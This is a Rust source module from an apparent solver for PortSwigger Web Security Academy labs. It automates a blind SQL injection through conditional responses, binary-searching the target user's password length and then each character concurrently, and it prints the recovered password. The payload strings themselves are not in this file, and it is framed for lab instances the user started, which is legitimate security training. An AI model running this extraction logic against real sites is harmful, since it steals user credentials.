// src/lab/mod.rs
// Lab solvers for PortSwigger Web Security Academy instances.
// Only talk to lab instances you started yourself.

pub mod config;
pub mod http_client;
pub mod oracle;
pub mod status;
pub mod types;

use std::sync::{Arc, Mutex};

use comfy_table::presets::UTF8_FULL;
use comfy_table::Table;
use indicatif::{ProgressBar, ProgressStyle};
use tokio::sync::Semaphore;
use tracing::{info, warn};

use crate::display::{GridObserver, SearchBoard, SharedBoard};
use crate::error::SolverError;
use crate::search::{binary_search_async, LogObserver};
use config::LabConfig;
use http_client::LabClient;
use oracle::BlindOracle;
use types::{CharacterRecord, ExtractOptions, ExtractionReport};

/// Secret characters found so far, shared by the extraction tasks
type Revealed = Arc<Mutex<Vec<Option<char>>>>;

/// Extract the target user's password through the conditional-responses
/// blind SQL injection.
pub async fn extract_secret(
    config: &LabConfig,
    options: ExtractOptions,
) -> Result<ExtractionReport, SolverError> {
    let started_at = chrono::Utc::now();
    let payloads = &config.payload_config;
    let client = LabClient::new(config)?;

    info!("Target: {}", client.base());

    // Phase 1: baseline
    info!("Phase 1/3: Fetching lab page and tracking cookie...");
    let lab_status = status::fetch_status(&client).await?;
    if lab_status.solved {
        warn!("Lab is already solved");
    }
    let tracking = match client.fetch_cookie(&payloads.tracking_cookie).await? {
        Some(value) => value,
        None => {
            warn!("Lab did not set a {} cookie, injecting without one", payloads.tracking_cookie);
            String::new()
        }
    };
    let oracle = Arc::new(BlindOracle::new(client.clone(), payloads.clone(), tracking));

    // Phase 2: length
    info!("Phase 2/3: Searching secret length in 1..={}...", config.max_length);
    let length = extract_length(&oracle, config, options).await?;
    info!("✓ Secret of {} is {} characters long", payloads.username, length);

    // Phase 3: characters
    info!("Phase 3/3: Extracting {} characters ({} at a time)...", length, config.max_concurrency);
    let characters = extract_characters(&oracle, config, options, length).await?;
    let secret: String = characters.iter().map(|record| record.value).collect();
    info!("✓ Extraction complete: {} probes", oracle.probes());

    Ok(ExtractionReport {
        lab_url: client.base().to_string(),
        lab_title: lab_status.title,
        username: payloads.username.clone(),
        length,
        secret,
        total_probes: oracle.probes(),
        characters,
        started_at: started_at.to_rfc3339(),
        finished_at: chrono::Utc::now().to_rfc3339(),
    })
}

async fn extract_length(
    oracle: &BlindOracle,
    config: &LabConfig,
    options: ExtractOptions,
) -> Result<usize, SolverError> {
    let bar = progress_bar(0, options.live)?;
    let username = config.payload_config.username.clone();
    let mut observer = (
        LogObserver::new("length"),
        GridObserver::new("password length")
            .with_header(move || format!("Length of {}'s password", username))
            .live(bar.clone()),
    );

    let length = binary_search_async(
        1..=config.max_length,
        |candidate| oracle.length_greater(*candidate),
        &mut observer,
    )
    .await?;
    bar.finish_and_clear();

    // Settling on the last candidate also covers "longer than every candidate"
    if length == config.max_length && oracle.length_greater(length).await? {
        return Err(SolverError::OutOfRange(format!(
            "secret is longer than {} characters, raise --max-length",
            config.max_length
        )));
    }

    Ok(length)
}

async fn extract_characters(
    oracle: &Arc<BlindOracle>,
    config: &LabConfig,
    options: ExtractOptions,
    length: usize,
) -> Result<Vec<CharacterRecord>, SolverError> {
    let charset = Arc::new(config.candidates());
    let revealed: Revealed = Arc::new(Mutex::new(vec![None; length]));
    let board: SharedBoard = SearchBoard::shared(length);
    let bar = progress_bar(length as u64, options.live)?;
    let semaphore = Arc::new(Semaphore::new(config.max_concurrency));
    let mut tasks = Vec::with_capacity(length);

    for position in 1..=length {
        let oracle = Arc::clone(oracle);
        let charset = Arc::clone(&charset);
        let revealed = Arc::clone(&revealed);
        let board = Arc::clone(&board);
        let semaphore = Arc::clone(&semaphore);
        let bar = bar.clone();

        tasks.push(tokio::spawn(async move {
            let _permit = semaphore
                .acquire()
                .await
                .map_err(|e| SolverError::Task(e.to_string()))?;

            let header_state = Arc::clone(&revealed);
            let mut observer = (
                LogObserver::new(format!("char {}", position)),
                GridObserver::new(format!("character {}", position))
                    .with_header(move || format!("Password: {}", mask(&header_state)))
                    .on_board(board, position - 1)?
                    .live(bar.clone()),
            );

            let mut probes = 0;
            let value = binary_search_async(
                charset.iter().copied(),
                |candidate| {
                    probes += 1;
                    oracle.char_greater(position, *candidate)
                },
                &mut observer,
            )
            .await?;

            // The search only bounds the character from above; a character
            // missing from the charset settles on its next candidate up.
            probes += 1;
            if !oracle.char_equals(position, value).await? {
                return Err(SolverError::OutOfRange(format!(
                    "character {} is not in the charset (search settled on {:?})",
                    position, value
                )));
            }

            revealed
                .lock()
                .unwrap_or_else(|poisoned| poisoned.into_inner())[position - 1] = Some(value);
            bar.inc(1);

            Ok::<_, SolverError>(CharacterRecord { position, value, probes })
        }));
    }

    let mut characters = Vec::with_capacity(length);
    let mut pending = tasks.into_iter();
    while let Some(task) = pending.next() {
        match task.await {
            Ok(Ok(record)) => characters.push(record),
            Ok(Err(e)) => {
                pending.for_each(|task| task.abort());
                return Err(e);
            }
            Err(e) => {
                pending.for_each(|task| task.abort());
                return Err(e.into());
            }
        }
    }
    bar.finish_and_clear();

    Ok(characters)
}

/// Secret so far, `?` for positions still being searched
fn mask(revealed: &Mutex<Vec<Option<char>>>) -> String {
    revealed
        .lock()
        .unwrap_or_else(|poisoned| poisoned.into_inner())
        .iter()
        .map(|value| value.unwrap_or('?'))
        .collect()
}

fn progress_bar(len: u64, live: bool) -> Result<ProgressBar, SolverError> {
    if !live {
        return Ok(ProgressBar::hidden());
    }

    let bar = ProgressBar::new(len);
    bar.set_style(
        ProgressStyle::with_template("{spinner:.green} [{elapsed_precise}] {pos}/{len}\n{msg}")
            .map_err(|e| SolverError::Config(format!("Invalid progress template: {}", e)))?,
    );
    Ok(bar)
}

/// Print extraction results in human-readable format
pub fn print_report(report: &ExtractionReport, short: bool) {
    println!("\n{}", "═".repeat(70));
    println!("  BLIND SQL INJECTION EXTRACTION RESULTS");
    println!("{}", "═".repeat(70));
    println!("Lab: {}", report.lab_url);
    if let Some(title) = &report.lab_title {
        println!("Title: {}", title);
    }
    println!("Run: {} to {}", report.started_at, report.finished_at);
    println!();
    println!("🔑 Password of {}: {}", report.username, report.secret);
    println!("   Length: {}", report.length);
    println!("   Probes: {}", report.total_probes);

    if !short {
        let mut table = Table::new();
        table.load_preset(UTF8_FULL);
        table.set_header(vec!["Position", "Character", "Probes"]);
        for record in &report.characters {
            table.add_row(vec![
                record.position.to_string(),
                record.value.to_string(),
                record.probes.to_string(),
            ]);
        }
        println!("\n{table}");
    }

    println!("\n{}", "═".repeat(70));
}
